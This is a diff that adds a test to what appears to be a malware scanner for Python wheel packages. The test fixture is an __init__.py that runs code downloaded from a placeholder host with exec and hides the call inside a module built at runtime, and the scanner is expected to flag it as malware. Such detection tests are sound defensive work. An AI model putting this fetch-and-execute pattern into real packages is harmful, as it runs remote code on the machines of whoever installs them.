@@ -601,3 +601,20 @@ test.each([
 
   expect(await inspect('remote-code', file)).toMatchObject(expected);
 });
+
+test('a function that is put into a module made on the spot runs as it did before', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import sys, types, urllib.request',
+      "made = types.ModuleType('helper')",
+      'def start():',
+      "    exec(urllib.request.urlopen('https://a.tools.invalid/x').read())",
+      'made.start = start',
+      "sys.modules['helper'] = made",
+      'import helper',
+      'helper.start()',
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', context: 'import', score: 10 }]);
+});
